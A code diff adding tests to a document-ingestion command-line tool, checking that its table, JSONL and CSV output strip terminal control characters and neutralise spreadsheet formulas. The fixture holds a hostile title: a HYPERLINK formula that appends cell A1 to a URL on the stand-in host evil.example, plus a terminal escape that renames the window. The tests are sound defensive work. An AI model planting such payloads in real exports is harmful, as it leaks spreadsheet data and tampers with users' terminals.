@@ -72,3 +72,40 @@ def test_a_hit_a_newer_lexicon_no_longer_finds_is_listed_only_on_request(ingeste
     assert cli("hits", "--format", "jsonl").output == ""
     row = json.loads(cli("hits", "--all", "--format", "jsonl").output)
     assert row["retracted_by"] == "9.9.9"
+
+
+# A title as a hostile site could write it: a spreadsheet formula, a terminal escape that renames
+# the terminal's window, and a C1 control (CSI) that JSON leaves as it is.
+HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Ouvrir")\x1b]0;pwned\x07\x9b31m'
+
+
+@pytest.fixture
+def hostile_title(db):
+    """A document stored with a hostile title (as rows stored before titles were cleaned have)."""
+    from storage.models import Document, Source
+
+    with db.session() as session:
+        session.add(Source(id="hostile", name="Hostile", country="FR", platform="html", url="https://evil.example/"))
+        session.flush()
+        session.add(Document(source_id="hostile", url="https://evil.example/a.pdf", title=HOSTILE_TITLE,
+                             status="analysed", extra={}))
+
+
+@pytest.mark.parametrize("fmt", ["table", "jsonl", "csv"])
+def test_no_output_format_lets_a_control_character_through(hostile_title, cli, fmt):
+    output = cli("documents", "--format", fmt).output
+    assert "HYPERLINK" in output
+    assert not any(char in output for char in "\x1b\x07\x9b")
+
+
+def test_a_csv_cell_never_starts_a_formula(hostile_title, cli):
+    [row] = csv.DictReader(io.StringIO(cli("documents", "--format", "csv").output))
+    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Ouvrir")]0;pwned31m'
+
+
+def test_ingest_removes_control_characters_from_a_file_name(cli, tmp_path):
+    pdf = tmp_path / "délibération\x1b[8m.pdf"
+    pdf.write_bytes(make_pdf("Vidéoprotection."))
+    cli("ingest", str(pdf), "--source", "cada-valmont")
+    [row] = [json.loads(line) for line in cli("documents", "--format", "jsonl").output.splitlines()]
+    assert row["title"] == "délibération[8m.pdf"
